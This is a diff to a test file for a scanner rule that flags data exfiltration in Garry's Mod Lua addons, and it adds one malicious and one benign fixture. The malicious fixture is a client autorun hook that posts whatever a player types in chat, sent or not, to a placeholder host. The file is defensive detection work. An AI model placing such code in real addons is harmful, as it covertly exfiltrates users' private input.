@@ -30,6 +30,27 @@ describe('dataexfiltration', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('what a player types into the chat box, sent or not, posted from their client', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'hook.Add("ChatTextChanged", "typing", function(text)',
+        '  if #text > 20 then http.Post("https://metrics.x.invalid/s", { t = text }) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.high);
+  });
+  it('typing shown as a bubble above the player, the text kept on their client (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'local typed = ""',
+        'hook.Add("ChatTextChanged", "typing", function(text) typed = text end)',
+        'hook.Add("HUDPaint", "typing", function() draw.SimpleText(typed, "DermaDefault", 10, 10) end)',
+        'timer.Create("stats", 600, 0, function() http.Post("https://stats.x.invalid/ping", { v = "1.2" }) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('relay behind a configured URL', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
